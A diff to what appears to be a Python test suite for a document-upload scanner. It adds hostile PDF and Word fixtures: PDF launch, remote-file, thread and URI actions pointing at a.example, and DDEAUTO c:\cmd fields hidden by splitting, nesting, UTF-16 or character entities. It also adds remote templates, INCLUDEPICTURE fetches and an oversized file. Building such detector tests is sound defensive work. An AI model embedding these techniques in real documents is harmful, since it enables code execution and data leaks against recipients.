@@ -86,6 +86,32 @@ def _deep(pdf):
     pdf.pages[0].obj["/AA"] = inner
 
 
+def _event(**entries):
+    """An action at an event of the first page."""
+    return lambda pdf: pdf.pages[0].obj.__setitem__("/AA", pikepdf.Dictionary(O=pikepdf.Dictionary(**entries)))
+
+
+def _picture_elsewhere(pdf):
+    pdf.pages[0].obj["/Metadata"] = pdf.make_stream(b"", F="\\\\a.example\\share\\x")
+
+
+SPLIT = "<w:fldChar w:fldCharType='begin'/><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText>"
+NESTED = (
+    "<w:fldChar w:fldCharType='begin'/><w:fldChar w:fldCharType='begin'/><w:instrText>REF a</w:instrText>"
+    "<w:fldChar w:fldCharType='separate'/><w:t>DDEAUTO</w:t><w:fldChar w:fldCharType='end'/>"
+)
+CONTENTS = (
+    "<w:fldChar w:fldCharType='begin'/><w:instrText> TO</w:instrText><w:instrText>C \\o &quot;1-3&quot; </w:instrText>"
+    "<w:fldChar w:fldCharType='separate'/><w:fldChar w:fldCharType='begin'/><w:instrText>PAGEREF _Toc1</w:instrText>"
+    "<w:fldChar w:fldCharType='separate'/><w:t>2</w:t><w:fldChar w:fldCharType='end'/>"
+    "<w:fldChar w:fldCharType='end'/><w:fldSimple w:instr=' =SUM(ABOVE) '/><w:instrText>ADDIN EN.CITE</w:instrText>"
+)
+
+
+def _field(inside: str, name: str = "word/f.xml") -> bytes:
+    return office(more={name: f"<w:a xmlns:w='w'>{inside}</w:a>"})
+
+
 def bomb(megabytes: int) -> bytes:
     """A Word file whose one part swells to this size."""
     return office(more={"word/big.xml": b"<a>" + b" " * (megabytes * 1024 * 1024) + b"</a>"})
@@ -155,6 +181,8 @@ SOUND: dict[str, tuple[bytes, str]] = {
         DOCX,
     ),
     "docx with a workbook of a chart": (office(more={"word/embeddings/figures.xlsx": office(XLSX)}), DOCX),
+    "docx with contents and numbers of pages": (_field(CONTENTS), DOCX),
+    "docx with a part of no content": (office(more={"word/media/none.dat": b"", "word/media/": b""}), DOCX),
     "xlsx": (office(XLSX), XLSX),
     "png": (PNG, "image/png"),
     "jpeg": (JPEG, "image/jpeg"),
@@ -205,6 +233,21 @@ _HOSTILE: dict[str, tuple[bytes | Callable[[], bytes], str]] = {
     "pdf with a deep script": (pdf_with(_deep), "a script"),
     "pdf that starts a program": (pdf_with(_action(S=pikepdf.Name.Launch, F="calc.exe")), "starts a program"),
     "pdf that sends data": (pdf_with(_action(S=pikepdf.Name.SubmitForm, F="https://a.example")), "sends data"),
+    "pdf that opens another file": (
+        pdf_with(_action(S=pikepdf.Name.GoToR, F="\\\\a.example\\x.pdf")),
+        "elsewhere|acts",
+    ),
+    "pdf that reads a thread elsewhere": (
+        pdf_with(_event(S=pikepdf.Name.Thread, F="\\\\a.example\\x")),
+        "elsewhere|acts",
+    ),
+    "pdf with content elsewhere": (pdf_with(_picture_elsewhere), "name of a file elsewhere"),
+    "pdf that opens an address": (pdf_with(_action(S=pikepdf.Name.URI, URI="https://a.example")), "acts when"),
+    "pdf page that opens an address": (pdf_with(_event(S=pikepdf.Name.URI, URI="https://a.example")), "acts when"),
+    "pdf that opens an address next": (
+        pdf_with(_action(S=pikepdf.Name.GoTo, D="a", Next=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://a"))),
+        "acts when",
+    ),
     "pdf with a file inside": (pdf_with(_embedded), "another file inside"),
     "pdf bomb": (pdf_bomb, "too much memory or time|damaged"),
     "png cut short": (PNG[:-20], "damaged or incomplete"),
@@ -253,6 +296,27 @@ _HOSTILE: dict[str, tuple[bytes | Callable[[], bytes], str]] = {
     "docx that calls a program": (
         office(more={"word/f.xml": "<w:a xmlns:w='w'><w:instrText>DDEAUTO c:\\\\cmd</w:instrText></w:a>"}),
         "fetches something",
+    ),
+    "docx that calls a program by another part": (_field("<w:instrText>DDE c</w:instrText>", "word/f.dat"), "“DDE”"),
+    "docx that calls a program in UTF-16": (
+        office(more={"word/f.dat": "<a><instrText>DDE c</instrText></a>".encode("utf-16")}),
+        "“DDE”",
+    ),
+    "docx that calls a program in other letters": (_field("<w:instrText>&#68;DEAUTO c</w:instrText>"), "“DDEAUTO”"),
+    "docx that calls a program in pieces": (_field(SPLIT), "“DDEAUTO”"),
+    "docx that calls a program by a field's field": (_field(NESTED), "fetches something"),
+    "docx that calls a program in short": (_field("<w:fldSimple w:instr='DDEAUTO c'/>"), "“DDEAUTO”"),
+    "docx that fetches a picture": (
+        _field('<w:instrText>INCLUDEPICTURE "https://a.example/p.png" \\d</w:instrText>'),
+        "“INCLUDEPICTURE”",
+    ),
+    "docx with relations in capitals": (
+        office(more={"word/_RELS/X.RELS": relation("attachedTemplate", "https://a.example/t.dotm", "External")}),
+        "fetches something",
+    ),
+    "docx with a web page inside": (
+        office(more={"word/_rels/x.rels": relation("aFChunk", "/word/page.htm"), "word/page.htm": "<html/>"}),
+        "another file inside",
     ),
     "docx with entities": (
         office(more={"word/x.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}),
